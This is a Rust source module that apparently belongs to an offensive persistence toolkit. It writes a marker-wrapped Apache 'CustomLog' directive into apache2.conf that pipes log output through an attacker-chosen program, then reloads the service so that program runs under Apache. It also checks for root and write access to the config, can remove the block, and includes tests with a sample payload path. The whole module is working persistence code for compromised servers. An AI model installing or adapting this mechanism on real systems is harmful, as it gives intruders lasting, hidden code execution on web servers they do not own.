//! Apache log-pipe persistence: a `CustomLog` directive that pipes the error
//! log stream through an attacker-chosen program.
//!
//! The directive is appended to the main Apache configuration file wrapped in
//! a unique marker pair, so a later remove can cut exactly the installed
//! block back out while preserving the rest of the file.

use std::path::Path;

use crate::diagnostics::{Probe, Report, file_writable, path_exists};
use crate::engine::{Fragment, FragmentMatcher, Installer, ReloadPlan, Target};
use crate::error::{EngineError, ValidationError};
use crate::exec::Executor;

/// The typical Apache configuration file on Debian/Ubuntu. Externally owned;
/// it must already exist.
pub const DEFAULT_CONF_PATH: &str = "/etc/apache2/apache2.conf";

/// Service unit restarted after configuration changes.
pub const SERVICE_UNIT: &str = "apache2";

/// Start marker delimiting the rendered block.
pub const START_MARKER: &str = "# BEGIN persist apache-log";
/// End marker delimiting the rendered block.
pub const END_MARKER: &str = "# END persist apache-log";

const LOG_FORMAT: &str = "error";

/// Parameters for the log-pipe directive.
#[derive(Debug, Clone)]
pub struct PipeParams {
    /// Absolute path of the executable Apache should pipe log lines to.
    pub payload: String,
}

impl PipeParams {
    /// Enforce the constraints required to safely embed the payload in the
    /// directive.
    ///
    /// # Errors
    ///
    /// Returns a [`ValidationError`] when the payload is empty, relative,
    /// contains a newline, or contains quotes/angle brackets.
    pub fn validate(&self) -> Result<(), ValidationError> {
        let payload = self.payload.trim();
        if payload.is_empty() {
            return Err(ValidationError::Required { field: "payload" });
        }
        if payload.contains('\n') {
            return Err(ValidationError::EmbeddedNewline { field: "payload" });
        }
        if payload.contains(['"', '<', '>']) {
            return Err(ValidationError::UnsafeCharacters { field: "payload" });
        }
        if !payload.starts_with('/') {
            return Err(ValidationError::RelativePath { field: "payload" });
        }
        Ok(())
    }
}

/// Render the marker-wrapped `CustomLog` block.
///
/// # Errors
///
/// Returns a [`ValidationError`] when the parameters are invalid; no I/O is
/// performed.
pub fn render(params: &PipeParams) -> Result<Fragment, ValidationError> {
    params.validate()?;
    let text = format!(
        "{START_MARKER}\nCustomLog \"|{}\" {LOG_FORMAT}\n{END_MARKER}\n",
        params.payload.trim()
    );
    Ok(Fragment::block(text, START_MARKER, END_MARKER))
}

/// Matcher for a previously installed block.
#[must_use]
pub fn matcher() -> FragmentMatcher {
    FragmentMatcher::block(START_MARKER, END_MARKER)
}

/// Append the block to `conf_path`; when `restart` is set, reload apache2
/// afterwards.
///
/// # Errors
///
/// Propagates validation, idempotency, privilege, I/O and reload errors from
/// the engine.
pub fn install(
    exec: &dyn Executor,
    params: &PipeParams,
    conf_path: &Path,
    restart: bool,
) -> Result<(), EngineError> {
    let fragment = render(params)?;
    let plan = restart.then(|| ReloadPlan::Unit(SERVICE_UNIT.to_string()));
    Installer::new(exec).install(&Target::external(conf_path), &fragment, plan.as_ref())
}

/// Cut the block back out of `conf_path`; when `restart` is set, reload
/// apache2 afterwards.
///
/// # Errors
///
/// Propagates idempotency, privilege, I/O and reload errors from the engine.
pub fn remove(exec: &dyn Executor, conf_path: &Path, restart: bool) -> Result<(), EngineError> {
    let plan = restart.then(|| ReloadPlan::Unit(SERVICE_UNIT.to_string()));
    Installer::new(exec).remove(&Target::external(conf_path), &matcher(), plan.as_ref())
}

/// Probe whether the log pipe can be installed: config presence and
/// writability, privileges, and the apache2 tool chain.
#[must_use]
pub fn check(exec: &dyn Executor, conf_path: &Path) -> Report {
    let probe = Probe::new(exec);
    let mut report = Report::new();

    let running_as_root = probe.effective_root();
    if !running_as_root {
        report.note("not running as root; writes to apache2.conf may fail");
    }

    let exists = path_exists(conf_path);
    let mut writable = false;
    if exists {
        writable = file_writable(conf_path);
        if !writable {
            report.note(format!(
                "cannot open {} for write; root privileges required",
                conf_path.display()
            ));
        }
    } else {
        report.note(format!("configuration {} does not exist", conf_path.display()));
    }

    let systemctl = probe.binary("systemctl");
    let mut service_active = false;
    if systemctl {
        service_active = probe.unit_active(SERVICE_UNIT);
    } else {
        report.note("systemctl binary not found; manual service restart required");
    }

    let apachectl = probe.binary("apache2ctl") || probe.binary("apachectl");
    if !apachectl {
        report.note("apachectl/apache2ctl not found on PATH");
    }

    report.check(format!("config present ({})", conf_path.display()), exists);
    report.check("config writable", writable);
    report.check("running as root", running_as_root);
    report.check("systemctl available", systemctl);
    report.check("apachectl/apache2ctl available", apachectl);
    report.check("apache2 service active", service_active);

    report
}

#[cfg(test)]
#[allow(clippy::expect_used, clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::exec::test_helpers::MockExecutor;

    fn params(payload: &str) -> PipeParams {
        PipeParams {
            payload: payload.to_string(),
        }
    }

    // -----------------------------------------------------------------------
    // render
    // -----------------------------------------------------------------------

    #[test]
    fn render_wraps_directive_in_markers() {
        let fragment = render(&params("/usr/bin/apachesh")).unwrap();
        assert_eq!(
            fragment.text(),
            "# BEGIN persist apache-log\nCustomLog \"|/usr/bin/apachesh\" error\n# END persist apache-log\n"
        );
    }

    #[test]
    fn render_is_deterministic() {
        let p = params("/usr/bin/apachesh");
        assert_eq!(render(&p).unwrap(), render(&p).unwrap());
    }

    // -----------------------------------------------------------------------
    // validation
    // -----------------------------------------------------------------------

    #[test]
    fn validate_rejects_unsafe_payloads() {
        for bad in [
            "",
            "relative/path",
            "/bin/sh\n/tmp/payload",
            "/path/with\"quote",
            "/path/with<angle>",
        ] {
            assert!(render(&params(bad)).is_err(), "expected error for {bad:?}");
        }
    }

    // -----------------------------------------------------------------------
    // check
    // -----------------------------------------------------------------------

    #[test]
    fn check_with_config_and_tool_chain() {
        let dir = tempfile::tempdir().unwrap();
        let conf = dir.path().join("apache2.conf");
        std::fs::write(&conf, "# test config\n").unwrap();

        // One scripted response: systemctl is-active apache2 -> active.
        let exec = MockExecutor::with_responses(vec![(true, "active\n".to_string())])
            .with_which("systemctl")
            .with_which("apache2ctl");
        let report = check(&exec, &conf);

        assert!(report.passed(&format!("config present ({})", conf.display())));
        assert!(report.passed("config writable"));
        assert!(report.passed("systemctl available"));
        assert!(report.passed("apachectl/apache2ctl available"));
        assert!(report.passed("apache2 service active"));
    }

    #[test]
    fn check_with_missing_config() {
        let exec = MockExecutor::default();
        let report = check(&exec, Path::new("/nonexistent/apache2.conf"));
        assert!(!report.passed("config present (/nonexistent/apache2.conf)"));
        assert!(!report.passed("systemctl available"));
        assert!(!report.notes.is_empty(), "expected notes about missing config");
    }
}
